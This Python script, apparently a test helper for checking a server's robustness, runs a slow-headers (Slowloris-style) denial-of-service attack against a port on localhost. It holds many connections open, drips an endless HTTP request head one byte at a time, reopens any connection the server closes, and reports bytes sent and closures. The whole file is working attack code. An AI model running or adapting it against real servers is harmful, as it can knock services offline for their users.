"""Attack a server with slow heads: ``slow_heads.py PORT CONNECTIONS SECONDS``.

So many connections send a request head at two bytes a second each, and never end it. A
connection that the server closes is opened anew. Prints ``ready`` when all are open,
and at the end how many bytes they have sent and how often they were closed.
"""

import contextlib
import selectors
import socket
import sys
import time
from typing import Final

HEAD: Final = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"y" * 15_000
#: Seconds between two bytes of one connection.
PAUSE: Final = 0.5


class Attacker:
    """One connection that is always about to send its next byte."""

    def __init__(self, port: int, selector: selectors.BaseSelector) -> None:
        self.port = port
        self.selector = selector
        self.closed = 0
        self.bytes_sent = 0
        self.connect()

    def connect(self) -> None:
        self.sent = 0
        self.peer = socket.create_connection(("127.0.0.1", self.port))
        self.peer.setblocking(False)
        self.selector.register(self.peer, selectors.EVENT_READ, self)

    def drip(self) -> None:
        """Send the next byte."""
        with contextlib.suppress(OSError):
            self.bytes_sent += self.peer.send(HEAD[self.sent : self.sent + 1])
            self.sent += 1

    def reconnect(self) -> None:
        """Come again: the server has answered, or closed."""
        self.selector.unregister(self.peer)
        self.peer.close()
        self.closed += 1
        self.connect()


def attack(port: int, connections: int, seconds: float) -> None:
    with selectors.DefaultSelector() as selector:
        attackers = [Attacker(port, selector) for _ in range(connections)]
        sys.stdout.write("ready\n")
        sys.stdout.flush()
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            begin = time.monotonic()
            for place, attacker in enumerate(attackers):
                attacker.drip()
                # Spread over the pause: no server gets them all in one turn.
                left = begin + PAUSE * place / connections - time.monotonic()
                for key, _ in selector.select(max(left, 0) if not place % 10 else 0):
                    key.data.reconnect()
            time.sleep(max(begin + PAUSE - time.monotonic(), 0))
        sent = sum(attacker.bytes_sent for attacker in attackers)
        closed = sum(attacker.closed for attacker in attackers)
        for attacker in attackers:
            attacker.peer.close()
    sys.stdout.write(f"{sent} bytes, {closed} closed\n")


if __name__ == "__main__":
    attack(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]))
